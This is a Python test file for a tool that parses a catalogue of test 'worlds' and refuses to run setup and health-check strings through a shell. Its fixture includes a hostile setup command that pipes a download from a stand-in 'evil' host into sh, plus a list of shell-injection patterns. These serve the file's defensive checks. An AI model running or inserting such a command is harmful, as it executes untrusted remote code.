"""Upstream's catalogue: understood, and none of its strings run through a shell."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from conformance.core.errors import UnknownWorld
from conformance.provision.catalog.manifest import Entry, describe, from_manifest
from conformance.provision.catalog.select import select

DATABASE = {
    "name": "db",
    "image": "ghcr.io/library/postgres:18-alpine",
    "ports": ["15432:5432"],
    "env": {"POSTGRES_USER": "w"},
    "healthCheck": {"cmd": "pg_isready", "interval": "10s", "retries": 5},
}
STORE = {
    "name": "store",
    "image": "acme/store:v3",
    "args": ["start", "--bind", "0.0.0.0:8000"],
    "ports": ["8000:8000"],
    "healthCheck": {"cmd": "curl -sf http://localhost:8000/health || exit 1"},
}


@pytest.fixture
def manifest(tmp_path: Path) -> Path:
    worlds: list[dict[str, Any]] = [
        {
            "id": "sql",
            "type": "community",
            "package": "acme-world-sql",
            "version": "1.2.3",
            "name": "SQL",
            "env": {
                "WORKFLOW_TARGET_WORLD": "x",
                "SQL_URL": "postgres://w:w@localhost:15432/w",
                "MODE": "{fast}",
            },
            "services": [DATABASE],
            "setup": "pnpm exec acme-setup",
        },
        {
            "id": "store",
            "type": "community",
            "package": "acme-world-store",
            "env": {"STORE": "ws://127.0.0.1:8000/rpc"},
            "services": [STORE],
            "setup": "curl http://evil | sh",
        },
        {
            "id": "cloud",
            "type": "x",
            "package": "c",
            "requiresCredentials": True,
            "credentialsNote": "Needs a key",
        },
        {"id": "edge", "type": "x", "package": "e", "requiresDeployment": True},
        {"id": "two", "type": "x", "package": "t", "services": [DATABASE, STORE]},
        {"id": "their-redis", "type": "x", "package": "@workflow-worlds/redis", "services": []},
    ]
    file = tmp_path / "worlds-manifest.json"
    file.write_text(json.dumps({"worlds": worlds, "future": True}))
    return file


def test_a_database_world(manifest: Path) -> None:
    (target,) = select(["sql"], manifest=manifest)
    descriptor = target.descriptor
    assert (target.world, target.version, target.package) == ("sql", "1.2.3", "acme-world-sql")
    assert descriptor.service is not None
    assert (descriptor.service.kind, descriptor.service.port) == ("postgres", 5432)
    assert descriptor.isolation.kind == "database"
    assert descriptor.env == {"SQL_URL": "{service.url}", "MODE": "{{fast}}"}
    assert descriptor.setup is not None
    assert descriptor.setup.command == ("node", "{bin.acme-setup}")
    assert descriptor.setup.env["SQL_URL"] == "{service.url}"


def test_shell_text_is_left_out_and_said(manifest: Path) -> None:
    descriptor = from_manifest(manifest, "store", {}).descriptor
    assert descriptor.service is not None
    assert descriptor.service.kind == "other"
    assert descriptor.service.args == ("start", "--bind", "0.0.0.0:8000")
    assert descriptor.service.health == ()
    assert descriptor.setup is None
    assert "was not run: 'curl http://evil | sh'" in descriptor.notes
    assert descriptor.env == {"STORE": "ws://{service.host}:{service.port}/rpc"}


def test_shell_text_runs_when_allowed(manifest: Path) -> None:
    descriptor = from_manifest(manifest, "store", {}, allow_shell=True).descriptor
    assert descriptor.setup is not None
    assert descriptor.setup.command[:2] == ("sh", "-c")
    assert descriptor.service is not None
    assert descriptor.service.health[:2] == ("sh", "-c")


@pytest.mark.parametrize(
    ("world", "said"),
    [
        ("cloud", "Needs a key"),
        ("edge", "only where it is deployed"),
        ("two", "2 services"),
        ("nope", "It has: sql, store"),
    ],
)
def test_what_cannot_run_says_why(manifest: Path, world: str, said: str) -> None:
    with pytest.raises(UnknownWorld, match=said):
        from_manifest(manifest, world, {})


def test_what_we_know_better_is_kept(manifest: Path) -> None:
    descriptor = from_manifest(manifest, "their-redis", {}).descriptor
    assert descriptor.name == "their-redis"
    assert descriptor.options["keyPrefix"] == "{namespace}"


def test_a_file_that_is_no_manifest(tmp_path: Path) -> None:
    with pytest.raises(UnknownWorld, match="Cannot read"):
        from_manifest(tmp_path / "none.json", "x", {})
    (tmp_path / "bad.json").write_text('{"worlds": [{"id": 1}]}')
    with pytest.raises(UnknownWorld, match="not a worlds manifest"):
        from_manifest(tmp_path / "bad.json", "x", {})


@pytest.mark.parametrize("text", ["a && b", "a; b", "a $(b)", "a `b`", "a > b", "a\nb", "a *"])
def test_nothing_of_a_shell_passes_for_a_command(text: str) -> None:
    service = {**STORE, "healthCheck": {"cmd": text}}
    entry = Entry(id="x", package="x", services=[], setup=text)
    assert describe(entry).setup is None
    entry = msgspec.convert({"id": "x", "package": "x", "services": [service]}, Entry)
    found = describe(entry).service
    assert found is not None
    assert found.health == ()
